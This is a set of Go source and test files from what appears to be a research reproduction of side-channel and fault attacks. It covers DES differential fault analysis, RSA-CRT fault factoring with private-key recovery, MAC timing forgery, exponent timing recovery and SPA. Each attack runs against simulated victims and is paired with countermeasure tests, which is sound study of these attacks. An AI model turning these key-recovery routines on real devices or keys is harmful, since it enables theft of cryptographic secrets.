		pairs = append(pairs, p)
	}
	return pairs, nil
}

// RecoverLastSubkey intersects per-S-box candidate sets across the pairs
// and returns the 48-bit final-round subkey K16. It fails if any S-box
// remains ambiguous (provide more pairs with different fault bits).
func RecoverLastSubkey(pairs []Pair) (uint64, error) {
	if len(pairs) == 0 {
		return 0, errors.New("dfa: no pairs")
	}
	// Candidate sets per S-box, initialized to "all 64".
	var candidates [8][64]bool
	for box := range candidates {
		for k := range candidates[box] {
			candidates[box][k] = true
		}
	}

	for _, p := range pairs {
		// Undo the final permutation: IP(ct) = R16 || L16, and L16 = R15.
		stC := des.InitialPermute(bitutil.Load64(p.Correct[:]))
		stF := des.InitialPermute(bitutil.Load64(p.Faulty[:]))
		r16c, r15c := uint32(stC>>32), uint32(stC)
		r16f, r15f := uint32(stF>>32), uint32(stF)
		if r15c == r15f {
			continue // fault did not land in R15; pair carries no signal
		}
		// f(R15,K16) ⊕ f(R15',K16) = R16 ⊕ R16' (L15 cancels); map back
		// through P to S-box output differences.
		outDiff := des.PInverse(r16c ^ r16f)
		ec := des.ExpandHalf(r15c)
		ef := des.ExpandHalf(r15f)
		for box := 0; box < 8; box++ {
			shift := uint(7-box) * 6
			inC := uint8(ec >> shift & 0x3f)
			inF := uint8(ef >> shift & 0x3f)
			wantDiff := uint8(outDiff >> (uint(7-box) * 4) & 0xf)
			if inC == inF {
				if wantDiff != 0 {
					return 0, errors.New("dfa: inconsistent pair (output changed without input change)")
				}
				continue // no information for this box
			}
			for k := 0; k < 64; k++ {
				if !candidates[box][k] {
					continue
				}
				d := des.SBox(box, inC^uint8(k)) ^ des.SBox(box, inF^uint8(k))
				if d != wantDiff {
					candidates[box][k] = false
				}
			}
		}
	}

	var subkey uint64
	for box := 0; box < 8; box++ {
		found := -1
		for k := 0; k < 64; k++ {
			if candidates[box][k] {
				if found >= 0 {
					return 0, errors.New("dfa: subkey still ambiguous; need more faulty pairs")
				}
				found = k
			}
		}
		if found < 0 {
			return 0, errors.New("dfa: no candidate survived; fault model mismatch")
		}
		subkey |= uint64(found) << (uint(7-box) * 6)
	}
	return subkey, nil
}

// RedundantEncrypt is the countermeasure: execute twice (one run
// glitched, in the attack scenario) and emit nothing on divergence.
func RedundantEncrypt(c *des.Cipher, pt []byte, glitchBit uint) ([]byte, error) {
	a := make([]byte, 8)
	b := make([]byte, 8)
	c.EncryptWithFault(a, pt, 15, glitchBit)
	c.Encrypt(b, pt)
	for i := range a {
		if a[i] != b[i] {
			return nil, errors.New("dfa: fault detected by redundant execution; output suppressed")
		}
	}
	return a, nil
}
