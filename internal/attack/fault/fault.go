// Package fault implements the Boneh-DeMillo-Lipton fault attack on
// RSA-CRT signatures ("On the importance of checking cryptographic
// protocols for faults" [42], cited in the paper's Section 3.4 as the
// flagship fault-induction attack).
//
// A single computational fault in one CRT half of a signature s over a
// known message m factors the modulus:
//
//	s^e ≡ m (mod q)  but  s^e ≢ m (mod p)
//	⇒ gcd(s^e − m, n) = q
//
// The glitch itself is injected by the victim's rsa.Options.Fault knob —
// the simulated stand-in for the voltage/clock/radiation manipulation the
// paper describes. The verify-before-release countermeasure
// (rsa.Options.VerifyAfterSign) makes the attack unmountable.
package fault

import (
	"errors"
	"math/big"

	"repro/internal/crypto/rsa"
)

// ErrNotFactored reports that the signature did not yield a factor (it
// was correct, or faulted in a non-exploitable way).
var ErrNotFactored = errors.New("fault: signature did not reveal a factor")

// FactorFromFaultySignature recovers a prime factor of pub.N from one
// faulty PKCS#1 v1.5 signature over the given digest.
func FactorFromFaultySignature(pub *rsa.PublicKey, hashName string, digest, faultySig []byte) (*big.Int, error) {
	k := pub.Size()
	if len(faultySig) != k {
		return nil, errors.New("fault: signature length mismatch")
	}
	em, err := rsa.EncodeEMSA(k, hashName, digest)
	if err != nil {
		return nil, err
	}
	m := new(big.Int).SetBytes(em)
	s := new(big.Int).SetBytes(faultySig)
	// gcd(s^e - m, n)
	se := new(big.Int).Exp(s, big.NewInt(pub.E), pub.N)
	diff := new(big.Int).Sub(se, m)
	diff.Mod(diff, pub.N)
	if diff.Sign() == 0 {
		return nil, ErrNotFactored // signature is actually valid
	}
	g := new(big.Int).GCD(nil, nil, diff, pub.N)
	if g.Cmp(big.NewInt(1)) == 0 || g.Cmp(pub.N) == 0 {
		return nil, ErrNotFactored
	}
	return g, nil
}

// RecoverPrivateKey rebuilds the full private key from one recovered
// factor — demonstrating that the single glitch is a total break.
func RecoverPrivateKey(pub *rsa.PublicKey, factor *big.Int) (*rsa.PrivateKey, error) {
	if factor.Sign() <= 0 {
		return nil, errors.New("fault: non-positive factor")
	}
	q := factor
	p := new(big.Int)
	rem := new(big.Int)
	p.QuoRem(pub.N, q, rem)
	if rem.Sign() != 0 {
		return nil, errors.New("fault: claimed factor does not divide N")
	}
	if p.Cmp(q) < 0 {
		p, q = q, p
	}
	one := big.NewInt(1)
	phi := new(big.Int).Mul(new(big.Int).Sub(p, one), new(big.Int).Sub(q, one))
	d := new(big.Int).ModInverse(big.NewInt(pub.E), phi)
	if d == nil {
		return nil, errors.New("fault: public exponent not invertible; wrong factor")
	}
	return &rsa.PrivateKey{
		PublicKey: *pub,
		D:         d,
		P:         p,
		Q:         q,
		Dp:        new(big.Int).Mod(d, new(big.Int).Sub(p, one)),
		Dq:        new(big.Int).Mod(d, new(big.Int).Sub(q, one)),
		Qinv:      new(big.Int).ModInverse(q, p),
	}, nil
}
