package fault

import (
	"math/big"
	"testing"

	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
)

var key *rsa.PrivateKey

func victimKey(t testing.TB) *rsa.PrivateKey {
	t.Helper()
	if key == nil {
		var err error
		key, err = rsa.GenerateKey(prng.NewDRBG([]byte("fault-victim")), 512)
		if err != nil {
			t.Fatal(err)
		}
	}
	return key
}

// TestSingleGlitchFactorsModulus is experiment A3's positive arm: one
// fault in a CRT half yields a prime factor and then the whole key.
func TestSingleGlitchFactorsModulus(t *testing.T) {
	k := victimKey(t)
	digest := sha1.Sum([]byte("routine firmware update manifest"))
	faulty, err := rsa.SignPKCS1(k, "sha1", digest[:], &rsa.Options{Fault: &rsa.Fault{FlipBit: 17}})
	if err != nil {
		t.Fatal(err)
	}
	factor, err := FactorFromFaultySignature(&k.PublicKey, "sha1", digest[:], faulty)
	if err != nil {
		t.Fatalf("factorization failed: %v", err)
	}
	if factor.Cmp(k.P) != 0 && factor.Cmp(k.Q) != 0 {
		t.Fatalf("recovered %v is not a factor of N", factor)
	}
	// Full key recovery from the factor.
	recovered, err := RecoverPrivateKey(&k.PublicKey, factor)
	if err != nil {
		t.Fatal(err)
	}
	if recovered.D.Cmp(k.D) != 0 {
		t.Fatal("recovered private exponent differs")
	}
	// The recovered key signs verifiably.
	sig, err := rsa.SignPKCS1(recovered, "sha1", digest[:], nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := rsa.VerifyPKCS1(&k.PublicKey, "sha1", digest[:], sig); err != nil {
		t.Fatal("signature from recovered key does not verify")
	}
}

// TestEveryBitPositionWorks: the attack is indifferent to which bit the
// glitch hits — any corruption of one half works.
func TestEveryBitPositionWorks(t *testing.T) {
	k := victimKey(t)
	digest := sha1.Sum([]byte("any glitch will do"))
	for _, bit := range []int{0, 1, 63, 100, 200, 255} {
		faulty, err := rsa.SignPKCS1(k, "sha1", digest[:], &rsa.Options{Fault: &rsa.Fault{FlipBit: bit}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := FactorFromFaultySignature(&k.PublicKey, "sha1", digest[:], faulty); err != nil {
			t.Errorf("bit %d: %v", bit, err)
		}
	}
}

// TestCorrectSignatureDoesNotFactor: a fault-free signature reveals
// nothing.
func TestCorrectSignatureDoesNotFactor(t *testing.T) {
	k := victimKey(t)
	digest := sha1.Sum([]byte("healthy signature"))
	sig, err := rsa.SignPKCS1(k, "sha1", digest[:], nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := FactorFromFaultySignature(&k.PublicKey, "sha1", digest[:], sig); err != ErrNotFactored {
		t.Fatalf("want ErrNotFactored, got %v", err)
	}
}

// TestVerifyBeforeReleaseStopsAttack is A3's countermeasure arm: with
// verify-after-sign the faulty signature never leaves the device, so the
// attacker has nothing to factor with.
func TestVerifyBeforeReleaseStopsAttack(t *testing.T) {
	k := victimKey(t)
	digest := sha1.Sum([]byte("protected signing"))
	_, err := rsa.SignPKCS1(k, "sha1", digest[:], &rsa.Options{
		Fault:           &rsa.Fault{FlipBit: 17},
		VerifyAfterSign: true,
	})
	if err != rsa.ErrFaultDetected {
		t.Fatalf("countermeasure failed: err = %v", err)
	}
}

// TestNoCRTImmune: without CRT, a fault yields an invalid signature but no
// factorization — the trade-off Section 3.4 implies.
func TestNoCRTImmune(t *testing.T) {
	k := victimKey(t)
	digest := sha1.Sum([]byte("no-crt signing"))
	faulty, err := rsa.SignPKCS1(k, "sha1", digest[:], &rsa.Options{
		NoCRT: true,
		Fault: &rsa.Fault{FlipBit: 17},
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := FactorFromFaultySignature(&k.PublicKey, "sha1", digest[:], faulty); err != ErrNotFactored {
		t.Fatalf("non-CRT fault should not factor: %v", err)
	}
}

func TestRecoverPrivateKeyValidation(t *testing.T) {
	k := victimKey(t)
	if _, err := RecoverPrivateKey(&k.PublicKey, big.NewInt(0)); err == nil {
		t.Error("accepted zero factor")
	}
	if _, err := RecoverPrivateKey(&k.PublicKey, big.NewInt(7)); err == nil {
		t.Error("accepted non-factor")
	}
}

func TestSignatureLengthValidation(t *testing.T) {
	k := victimKey(t)
	digest := sha1.Sum([]byte("x"))
	if _, err := FactorFromFaultySignature(&k.PublicKey, "sha1", digest[:], []byte{1, 2}); err == nil {
		t.Error("accepted short signature")
	}
	if _, err := FactorFromFaultySignature(&k.PublicKey, "sha9", digest[:], make([]byte, k.Size())); err == nil {
		t.Error("accepted unknown hash")
	}
}

func BenchmarkFactorFromFault(b *testing.B) {
	k := victimKey(b)
	digest := sha1.Sum([]byte("bench"))
	faulty, err := rsa.SignPKCS1(k, "sha1", digest[:], &rsa.Options{Fault: &rsa.Fault{FlipBit: 9}})
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := FactorFromFaultySignature(&k.PublicKey, "sha1", digest[:], faulty); err != nil {
			b.Fatal(err)
		}
	}
}
