package maccompare

import (
	"bytes"
	"hash"
	"testing"

	"repro/internal/crypto/hmac"
	"repro/internal/crypto/sha1"
)

var (
	key     = []byte("shared mac key")
	message = []byte("POST /pay?to=mallory&amt=999")
)

// TestForgeAgainstLeakyVerifier: the byte-at-a-time forgery defeats the
// early-exit comparison in 256·20 queries instead of 2^160.
func TestForgeAgainstLeakyVerifier(t *testing.T) {
	v := NewVerifier(key, message, false)
	forged, queries, err := ForgeMAC(v)
	if err != nil {
		t.Fatalf("forgery failed: %v", err)
	}
	if ok, _ := v.Check(forged); !ok {
		t.Fatal("forged MAC rejected")
	}
	// The forged MAC equals the real one.
	h := hmac.New(func() hash.Hash { return sha1.New() }, key)
	h.Write(message)
	if !bytes.Equal(forged, h.Sum(nil)) {
		t.Fatal("forged MAC differs from the true MAC")
	}
	if queries > 256*v.MACLen() {
		t.Fatalf("used %d queries; linear attack should need ≤ %d", queries, 256*v.MACLen())
	}
}

// TestConstantTimeDefeatsForgery: against hmac.Equal the timing carries
// no signal and the attack reports failure at the first position.
func TestConstantTimeDefeatsForgery(t *testing.T) {
	v := NewVerifier(key, message, true)
	forged, queries, err := ForgeMAC(v)
	if err == nil {
		t.Fatalf("forgery succeeded against constant-time verifier: %x", forged)
	}
	if queries > 256 {
		t.Fatalf("attack should give up within one position, used %d queries", queries)
	}
}

// TestTimingSignalShape: the leaky verifier's time grows exactly with the
// matched prefix; the hardened one is flat.
func TestTimingSignalShape(t *testing.T) {
	v := NewVerifier(key, message, false)
	h := hmac.New(func() hash.Hash { return sha1.New() }, key)
	h.Write(message)
	real := h.Sum(nil)

	candidate := make([]byte, len(real))
	for i := range candidate {
		candidate[i] = real[i] ^ 0xff // all wrong
	}
	_, t0 := v.Check(candidate)
	copy(candidate[:3], real[:3]) // first 3 bytes right
	_, t3 := v.Check(candidate)
	if t3 != t0+3*v.perByteCycles {
		t.Fatalf("leaky timing: %d vs %d", t3, t0)
	}

	ct := NewVerifier(key, message, true)
	_, c0 := ct.Check(candidate)
	copy(candidate, real)
	candidate[len(candidate)-1] ^= 1
	_, c19 := ct.Check(candidate)
	if c0 != c19 {
		t.Fatal("constant-time verifier timing varies")
	}
}

func TestCheckWrongLength(t *testing.T) {
	v := NewVerifier(key, message, false)
	if ok, _ := v.Check([]byte{1, 2, 3}); ok {
		t.Fatal("accepted short MAC")
	}
}

func BenchmarkForgeMAC(b *testing.B) {
	v := NewVerifier(key, message, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, err := ForgeMAC(v); err != nil {
			b.Fatal(err)
		}
	}
}
