// Package maccompare implements the remote timing attack on byte-wise
// MAC comparison — the protocol-level cousin of the paper's Section 3.4
// timing attacks ([47], and [48]'s "network security under siege: the
// timing attack").
//
// A verifier that compares a received MAC against the expected one with
// an early-exit loop leaks, through its running time, how many leading
// bytes of the guess are correct. An attacker forges a valid MAC for a
// chosen message one byte at a time: for each position, try all 256
// values and keep the one whose verification ran measurably longer.
//
// The countermeasure is the constant-time comparison every verifier in
// this repository uses (internal/crypto/hmac.Equal).
package maccompare

import (
	"errors"
	"hash"

	"repro/internal/crypto/hmac"
	"repro/internal/crypto/sha1"
)

// Verifier models a device checking a MAC over a fixed message; it
// returns accept/reject and a simulated cycle count for the check.
type Verifier struct {
	mac          []byte
	constantTime bool
	// perByteCycles is the simulated cost of comparing one byte pair.
	perByteCycles uint64
}

// NewVerifier builds a verifier for the MAC of message under key.
// constantTime selects the hardened comparison.
func NewVerifier(key, message []byte, constantTime bool) *Verifier {
	h := hmac.New(func() hash.Hash { return sha1.New() }, key)
	h.Write(message)
	return &Verifier{mac: h.Sum(nil), constantTime: constantTime, perByteCycles: 12}
}

// MACLen returns the MAC length the attacker must forge.
func (v *Verifier) MACLen() int { return len(v.mac) }

// Check verifies a candidate MAC, returning acceptance and the simulated
// verification time in cycles.
func (v *Verifier) Check(candidate []byte) (bool, uint64) {
	if len(candidate) != len(v.mac) {
		return false, v.perByteCycles
	}
	if v.constantTime {
		// Hardened path: full-length scan, uniform cost.
		return hmac.Equal(candidate, v.mac), uint64(len(v.mac)) * v.perByteCycles
	}
	// Leaky path: early-exit loop — time reveals the match prefix.
	var cycles uint64
	for i := range v.mac {
		cycles += v.perByteCycles
		if candidate[i] != v.mac[i] {
			return false, cycles
		}
	}
	return true, cycles
}

// ForgeMAC mounts the byte-at-a-time forgery: for each position it keeps
// the candidate byte that maximizes verification time. It needs
// 256·maclen queries instead of 2^(8·maclen). Returns the forged MAC or
// an error when the timing gives no signal (the hardened verifier).
func ForgeMAC(v *Verifier) ([]byte, int, error) {
	guess := make([]byte, v.MACLen())
	queries := 0
	for pos := 0; pos < len(guess); pos++ {
		var bestByte byte
		bestTime := uint64(0)
		minTime := ^uint64(0)
		for b := 0; b < 256; b++ {
			guess[pos] = byte(b)
			ok, cycles := v.Check(guess)
			queries++
			if ok {
				return guess, queries, nil
			}
			if cycles > bestTime {
				bestTime = cycles
				bestByte = byte(b)
			}
			if cycles < minTime {
				minTime = cycles
			}
		}
		// With an early-exit verifier, the correct byte at pos makes the
		// comparison proceed one byte further, so its time strictly
		// exceeds every wrong candidate's. Zero spread across all 256
		// candidates means the verifier leaks nothing.
		if bestTime == minTime {
			return nil, queries, errors.New("maccompare: no timing signal; verifier appears constant-time")
		}
		guess[pos] = bestByte
	}
	if ok, _ := v.Check(guess); ok {
		return guess, queries, nil
	}
	return nil, queries, errors.New("maccompare: forgery failed")
}
