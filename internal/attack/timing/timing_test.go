package timing

import (
	"math/big"
	"testing"

	"repro/internal/crypto/mp"
	"repro/internal/crypto/prng"
)

// attack parameters used across the tests: a 256-bit modulus and a 40-bit
// secret exponent, sized so the full attack runs in seconds.
const (
	modBits    = 256
	secretBits = 40
	samples    = 7000
)

func setup(t testing.TB, seed string) (*mp.MontCtx, *big.Int, []*big.Int, *prng.DRBG) {
	t.Helper()
	rng := prng.NewDRBG([]byte(seed))
	nBytes := rng.Bytes(modBits / 8)
	n := new(big.Int).SetBytes(nBytes)
	n.SetBit(n, modBits-1, 1)
	n.SetBit(n, 0, 1)
	ctx, err := mp.NewMontCtx(n)
	if err != nil {
		t.Fatal(err)
	}
	secret := new(big.Int).SetBytes(rng.Bytes(secretBits / 8))
	secret.SetBit(secret, secretBits-1, 1)
	// RSA private exponents are odd; the attack's H0 statistic for the
	// final bit relies on a following operation existing.
	secret.SetBit(secret, 0, 1)
	bases := make([]*big.Int, samples)
	for i := range bases {
		b := new(big.Int).SetBytes(rng.Bytes(modBits / 8))
		bases[i] = b.Mod(b, n)
	}
	return ctx, secret, bases, rng
}

// TestRecoverLeakyExponent: the attack fully recovers the exponent from a
// leaking victim (experiment A1's positive arm).
func TestRecoverLeakyExponent(t *testing.T) {
	ctx, secret, bases, _ := setup(t, "timing-attack")
	res, err := RecoverExponent(ctx, LeakyOracle(ctx, secret, nil), secretBits, bases)
	if err != nil {
		t.Fatal(err)
	}
	if res.Recovered.Cmp(secret) != 0 {
		t.Fatalf("recovered %x, want %x (confidence %.2f)", res.Recovered, secret, res.Confidence)
	}
	if res.Confidence < 0.5 {
		t.Fatalf("confidence %.2f too low for a leaking victim", res.Confidence)
	}
}

// TestRecoverWithMeasurementNoise: the attack survives Gaussian timing
// jitter of one extra-reduction cost.
func TestRecoverWithMeasurementNoise(t *testing.T) {
	ctx, secret, bases, rng := setup(t, "timing-noise")
	sigma := float64(ctx.CostExtraReduction())
	noise := func() float64 { return rng.NormFloat64() * sigma }
	res, err := RecoverExponent(ctx, LeakyOracle(ctx, secret, noise), secretBits, bases)
	if err != nil {
		t.Fatal(err)
	}
	if res.Recovered.Cmp(secret) != 0 {
		t.Fatalf("noisy recovery failed: got %x, want %x", res.Recovered, secret)
	}
}

// TestConstantTimeDefeatsAttack: against the Montgomery ladder the attack
// learns nothing (experiment A1's countermeasure arm).
func TestConstantTimeDefeatsAttack(t *testing.T) {
	ctx, secret, bases, _ := setup(t, "timing-ct")
	res, err := RecoverExponent(ctx, ConstTimeOracle(ctx, secret, nil), secretBits, bases)
	if err != nil {
		t.Fatal(err)
	}
	if res.Recovered.Cmp(secret) == 0 {
		t.Fatal("attack recovered the exponent from a constant-time victim")
	}
	if res.Confidence > 0.3 {
		t.Fatalf("confidence %.2f against constant-time victim should be ≈0", res.Confidence)
	}
}

// TestBlindingDefeatsAttack: base blinding decorrelates the attacker's
// emulation from the victim's operands.
func TestBlindingDefeatsAttack(t *testing.T) {
	ctx, secret, bases, rng := setup(t, "timing-blind")
	e := big.NewInt(65537)
	blind := func() *big.Int {
		r := new(big.Int).SetBytes(rng.Bytes(modBits / 8))
		r.Mod(r, ctx.N)
		if r.Sign() == 0 {
			r.SetInt64(3)
		}
		return r
	}
	res, err := RecoverExponent(ctx, BlindedOracle(ctx, secret, e, blind), secretBits, bases)
	if err != nil {
		t.Fatal(err)
	}
	if res.Recovered.Cmp(secret) == 0 {
		t.Fatal("attack recovered the exponent from a blinded victim")
	}
}

func TestValidation(t *testing.T) {
	ctx, secret, bases, _ := setup(t, "timing-valid")
	oracle := LeakyOracle(ctx, secret, nil)
	if _, err := RecoverExponent(ctx, oracle, 1, bases); err == nil {
		t.Error("accepted bitLen 1")
	}
	if _, err := RecoverExponent(ctx, oracle, secretBits, bases[:5]); err == nil {
		t.Error("accepted 5 samples")
	}
}

// TestPartialSampleDegradation: with far too few samples the attack can
// misrecover — documenting that the attack's power is sample-bound, the
// quantitative knob defenders reason about.
func TestConfidenceReflectsLeak(t *testing.T) {
	ctx, secret, bases, _ := setup(t, "timing-conf")
	leaky, err := RecoverExponent(ctx, LeakyOracle(ctx, secret, nil), secretBits, bases)
	if err != nil {
		t.Fatal(err)
	}
	ct, err := RecoverExponent(ctx, ConstTimeOracle(ctx, secret, nil), secretBits, bases)
	if err != nil {
		t.Fatal(err)
	}
	if leaky.Confidence <= 2*ct.Confidence {
		t.Fatalf("leaky confidence %.3f should dwarf constant-time %.3f",
			leaky.Confidence, ct.Confidence)
	}
}

func BenchmarkRecoverExponent(b *testing.B) {
	ctx, secret, bases, _ := setup(b, "timing-bench")
	oracle := LeakyOracle(ctx, secret, nil)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := RecoverExponent(ctx, oracle, secretBits, bases); err != nil {
			b.Fatal(err)
		}
	}
}
