// Package timing implements the Kocher/Dhem-style timing attack on
// modular exponentiation, the canonical side-channel of the paper's
// Section 3.4 ("the timing attack [47], which exploits the observation
// that the computations ... often take different amounts of time on
// different inputs").
//
// The victim is internal/crypto/mp's leaky square-and-multiply ModExp,
// whose simulated cycle count includes the data-dependent Montgomery
// extra reduction. The attacker:
//
//  1. submits chosen bases and observes total (simulated) execution time;
//  2. recovers the secret exponent bit by bit, MSB first: for each
//     unknown bit it emulates the public Montgomery arithmetic up to that
//     bit under the hypothesis "bit = 1" and partitions the sample set by
//     whether the hypothesized multiply incurs an extra reduction;
//  3. if the partition means differ by about one extra-reduction cost,
//     the multiply really happened (bit = 1); if the partition looks like
//     noise, it did not (bit = 0).
//
// The same attack run against the constant-time ladder or a blinded
// oracle fails — the countermeasures of Section 3.4 in executable form.
package timing

import (
	"context"
	"errors"
	"fmt"
	"math/big"

	"repro/internal/crypto/mp"
	"repro/internal/obs/journal"
	"repro/internal/par"
)

// Oracle models the attacker's measurement access: submit a base, observe
// the victim's execution time in simulated cycles (possibly noisy).
type Oracle func(base *big.Int) float64

// LeakyOracle is a victim running the data-dependent square-and-multiply.
// noise, if non-nil, is added to each observation (e.g. measurement
// jitter drawn from a DRBG).
func LeakyOracle(ctx *mp.MontCtx, secret *big.Int, noise func() float64) Oracle {
	return func(base *big.Int) float64 {
		var m mp.CycleMeter
		ctx.ModExp(base, secret, &m)
		t := float64(m.Cycles())
		if noise != nil {
			t += noise()
		}
		return t
	}
}

// ConstTimeOracle is a victim running the Montgomery-ladder
// countermeasure.
func ConstTimeOracle(ctx *mp.MontCtx, secret *big.Int, noise func() float64) Oracle {
	return func(base *big.Int) float64 {
		var m mp.CycleMeter
		ctx.ModExpConstTime(base, secret, &m)
		t := float64(m.Cycles())
		if noise != nil {
			t += noise()
		}
		return t
	}
}

// BlindedOracle is a victim that blinds the base with r^e before the
// leaky exponentiation (RSA-style base blinding): the attacker's
// emulation no longer tracks the victim's operand values. blindSource
// must yield a fresh r each call; e is the public exponent.
func BlindedOracle(ctx *mp.MontCtx, secret *big.Int, e *big.Int, blindSource func() *big.Int) Oracle {
	return func(base *big.Int) float64 {
		r := blindSource()
		re := ctx.ModExp(r, e, nil)
		blinded := new(big.Int).Mod(new(big.Int).Mul(base, re), ctx.N)
		var m mp.CycleMeter
		ctx.ModExp(blinded, secret, &m)
		return float64(m.Cycles())
	}
}

// Result reports a recovery attempt.
type Result struct {
	Recovered *big.Int
	BitLen    int
	Samples   int
	// Confidence is the mean absolute separation (in units of the
	// extra-reduction cost) across decided bits; ≈1 for a leaking
	// victim, ≈0 for a constant-time one.
	Confidence float64
}

// RecoverExponent mounts the attack. bitLen is the secret's bit length
// (the MSB is assumed 1, as for any real key), and bases are the chosen
// messages to time. It needs no access to the victim beyond the oracle
// and the public modulus context.
func RecoverExponent(ctx *mp.MontCtx, oracle Oracle, bitLen int, bases []*big.Int) (*Result, error) {
	if bitLen < 2 {
		return nil, errors.New("timing: bit length too small")
	}
	if len(bases) < 16 {
		return nil, fmt.Errorf("timing: %d samples is too few", len(bases))
	}
	n := len(bases)
	times := make([]float64, n)
	acc := make([]*big.Int, n) // emulated accumulator per message
	bm := make([]*big.Int, n)  // base in Montgomery form
	// Oracle queries stay sequential: a noisy oracle draws jitter from a
	// stateful source, and the sample order defines the experiment. The
	// attacker's own Montgomery emulation is pure math and fans out.
	for i, b := range bases {
		times[i] = oracle(b)
	}
	_ = par.ForN(context.Background(), par.DefaultWorkers(), n, func(i int) error {
		bm[i] = ctx.ToMont(bases[i])
		// Emulate the first iteration (MSB is 1): square of one, then
		// multiply by the base.
		a, _ := ctx.MulMont(ctx.One(), ctx.One())
		a, _ = ctx.MulMont(a, bm[i])
		acc[i] = a
		return nil
	})

	extraCost := float64(ctx.CostExtraReduction())
	recovered := new(big.Int).SetBit(new(big.Int), bitLen-1, 1)
	totalSep := 0.0
	decided := 0

	// separation computes the partition statistic: the difference of mean
	// observed times between samples whose flag is set and clear, in
	// units of the extra-reduction cost.
	separation := func(flags []bool) float64 {
		var sum1, sum0 float64
		var n1, n0 int
		for i, f := range flags {
			if f {
				sum1 += times[i]
				n1++
			} else {
				sum0 += times[i]
				n0++
			}
		}
		if n1 == 0 || n0 == 0 {
			return 0
		}
		return (sum1/float64(n1) - sum0/float64(n0)) / extraCost
	}

	for bit := bitLen - 2; bit >= 1; bit-- {
		// The attacker tests two competing hypotheses about the *next
		// iteration's square* (Schindler/Dhem): under H1 the victim
		// multiplied, so the next square runs on sq·b̄; under H0 it
		// runs on sq itself. Exactly one of those squares executed, so
		// its extra-reduction flag partitions the timings with a one-
		// extra-reduction separation, while the false hypothesis'
		// partition is noise. Using squares for both hypotheses keeps
		// the operand-magnitude bias symmetric (partitioning on the
		// multiply's own flag would key on b̄'s fixed magnitude, which
		// correlates with every multiply in the whole execution).
		sq := make([]*big.Int, n)
		mulRes := make([]*big.Int, n)
		extraNextSqH1 := make([]bool, n)
		extraNextSqH0 := make([]bool, n)
		// Four MulMont per base, all independent across bases — this is
		// the attack's hot loop (bitLen-2 rounds over every sample).
		_ = par.ForN(context.Background(), par.DefaultWorkers(), n, func(i int) error {
			s, _ := ctx.MulMont(acc[i], acc[i])
			sq[i] = s
			m, _ := ctx.MulMont(s, bm[i])
			mulRes[i] = m
			_, ex1 := ctx.MulMont(m, m)
			extraNextSqH1[i] = ex1
			_, ex0 := ctx.MulMont(s, s)
			extraNextSqH0[i] = ex0
			return nil
		})
		sepH1 := separation(extraNextSqH1)
		sepH0 := separation(extraNextSqH0)
		totalSep += absf(sepH1 - sepH0)
		decided++
		bitVal := int64(0)
		if sepH1 > sepH0 {
			recovered.SetBit(recovered, bit, 1)
			copy(acc, mulRes)
			bitVal = 1
		} else {
			copy(acc, sq)
		}
		// Key-bit recovery progress; t_sim counts decided bits MSB-first,
		// so the journal replays the attack in attack order.
		journal.Emit(int64(decided), journal.LevelDebug, "attack", "key_bit",
			journal.I("bit", int64(bit)), journal.I("value", bitVal),
			journal.F("sep_h1", sepH1), journal.F("sep_h0", sepH0))
	}
	// Bit 0: there is no following square to key on, so the attack takes
	// the standard shortcut — RSA private exponents are odd (d·e ≡ 1 mod
	// φ(n) with e odd forces odd d), so the final bit is 1.
	recovered.SetBit(recovered, 0, 1)
	conf := 0.0
	if decided > 0 {
		conf = totalSep / float64(decided)
	}
	journal.Emit(int64(bitLen), journal.LevelInfo, "attack", "exponent_recovered",
		journal.I("bits", int64(bitLen)), journal.I("samples", int64(n)),
		journal.F("confidence", conf))
	return &Result{Recovered: recovered, BitLen: bitLen, Samples: n, Confidence: conf}, nil
}

func absf(x float64) float64 {
	if x < 0 {
		return -x
	}
	return x
}
