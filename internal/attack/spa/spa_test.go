package spa

import (
	"math/big"
	"testing"

	"repro/internal/crypto/mp"
	"repro/internal/crypto/prng"
)

func setup(t testing.TB) (*mp.MontCtx, *prng.DRBG) {
	t.Helper()
	rng := prng.NewDRBG([]byte("spa"))
	n := new(big.Int).SetBytes(rng.Bytes(64))
	n.SetBit(n, 511, 1)
	n.SetBit(n, 0, 1)
	ctx, err := mp.NewMontCtx(n)
	if err != nil {
		t.Fatal(err)
	}
	return ctx, rng
}

// TestSingleTraceRecovery: SPA reads a full 512-bit exponent off ONE
// trace — no statistics needed, the headline property of the attack.
func TestSingleTraceRecovery(t *testing.T) {
	ctx, rng := setup(t)
	secret := new(big.Int).SetBytes(rng.Bytes(64))
	secret.SetBit(secret, 511, 1)
	base := new(big.Int).SetBytes(rng.Bytes(64))
	base.Mod(base, ctx.N)

	_, trace := ctx.ModExpWithTrace(base, secret, nil)
	got, err := RecoverExponent(ctx, trace)
	if err != nil {
		t.Fatal(err)
	}
	if got.Cmp(secret) != 0 {
		t.Fatalf("recovered %x, want %x", got, secret)
	}
}

// TestManyExponents: recovery works across random exponents of various
// sizes (property-style sweep).
func TestManyExponents(t *testing.T) {
	ctx, rng := setup(t)
	base := big.NewInt(0xabcdef)
	for _, bits := range []int{8, 17, 64, 160} {
		for i := 0; i < 10; i++ {
			secret := new(big.Int).SetBytes(rng.Bytes((bits + 7) / 8))
			secret.SetBit(secret, bits-1, 1)
			_, trace := ctx.ModExpWithTrace(base, secret, nil)
			got, err := RecoverExponent(ctx, trace)
			if err != nil {
				t.Fatalf("bits %d iter %d: %v", bits, i, err)
			}
			if got.Cmp(secret) != 0 {
				t.Fatalf("bits %d iter %d: wrong exponent", bits, i)
			}
		}
	}
}

// TestLadderDefeatsSPA: the constant-time trace is flat and yields
// nothing.
func TestLadderDefeatsSPA(t *testing.T) {
	ctx, rng := setup(t)
	secret := new(big.Int).SetBytes(rng.Bytes(32))
	secret.SetBit(secret, 255, 1)
	base := big.NewInt(3)
	_, trace := ctx.ModExpConstTimeWithTrace(base, secret, nil)
	if !TraceIsFlat(trace) {
		t.Fatal("ladder trace is not flat")
	}
	if got, err := RecoverExponent(ctx, trace); err == nil && got.Cmp(secret) == 0 {
		t.Fatal("SPA recovered the exponent from a ladder trace")
	}
}

